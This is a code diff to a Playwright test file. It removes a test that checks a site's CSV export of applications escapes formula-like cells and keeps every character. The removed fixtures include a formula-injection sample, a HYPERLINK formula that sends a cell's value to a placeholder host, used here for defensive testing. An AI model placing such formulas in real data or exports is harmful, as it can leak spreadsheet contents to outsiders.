@@ -1,9 +1,7 @@
-import { type ApplicationWire, exportPaths, paths } from '@site/contract';
+import { paths } from '@site/contract';
 import type { Page } from '@playwright/test';
-import ExcelJS from 'exceljs';
-import { createReadStream } from 'node:fs';
 import { openScreen } from '../fixtures/adminScreens';
-import { callApi, sendLead } from '../fixtures/api';
+import { sendLead } from '../fixtures/api';
 import { pressByKeyboard, tabTo } from '../fixtures/keyboard';
 import { admin } from '../fixtures/siteFixture';
 import { expect, test } from '../fixtures/test';
@@ -86,55 +84,4 @@ test('with the keyboard alone an admin finds a lead that has just come in, works
   await expect(page).toHaveURL(/state=call_booked&kind=application&assignee=me&due=today$/);
   await expect(page.getByRole('row', { name: family.name })).toContainText('Call her mother · 3 Dec 2025');
   expect(complaints).toEqual([]);
-});
-
-const LETTERS: readonly Parameters<typeof sendLead>[2][] = [
-  {
-    name: 'Zoë 🏌️‍♀️ O’Hara',
-    email: 'zoe@letters.example',
-    message: 'She says "hello", twice; 👨‍👩‍👧',
-    grad_year: 2027,
-  },
-  {
-    name: '=HYPERLINK("https://x.example?"&A1,"click")',
-    email: 'formula@letters.example',
-    message: '=1+1\r\n+2\r\n\r\nthird line',
-  },
-];
-
-/** The rows as a spreadsheet shows them. */
-async function readRows(file: string): Promise<string[][]> {
-  // Every cell as text: exceljs would turn numeric text into a number.
-  const sheet = await new ExcelJS.Workbook().csv.read(createReadStream(file), {
-    map: (text: string) => text,
-  });
-  const rows: string[][] = [];
-  // Cells count from 1.
-  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
-  return rows;
-}
-
-/** docs/product.md#csv-content: text that a spreadsheet would take for a formula starts with an apostrophe. */
-const asText = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
-
-test('a spreadsheet has every character of all applications', async ({ page, context, request, site }) => {
-  for (const letter of LETTERS) await sendLead(site, 'applications', letter);
-  await openScreen(page, paths.adminApplications.to());
-  const [download] = await Promise.all([
-    // Playwright reports it for the file's own tab or for this one, whichever it knows at that moment.
-    context.waitForEvent('download'),
-    page.getByRole('button', { name: 'Export CSV' }).click(),
-  ]);
-  expect(download.url()).toBe(site.origin + exportPaths.applications);
-  expect(download.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
-  const [head, ...rows] = await readRows(await download.path());
-  const stored = (await (await callApi(site, 'GET /applications')).json()) as ApplicationWire[];
-  expect(head).toEqual(['name', 'email', 'grad_year', 'message', 'created_at']);
-  expect(rows).toEqual(
-    stored.map((row) =>
-      [row.name, row.email, String(row.grad_year ?? ''), row.message, row.created_at].map(asText),
-    ),
-  );
-  expect(rows.map(([name]) => name)).toEqual(expect.arrayContaining(LETTERS.map(({ name }) => asText(name))));
-  expect((await request.get(site.origin + exportPaths.applications)).status()).toBe(401);
 });
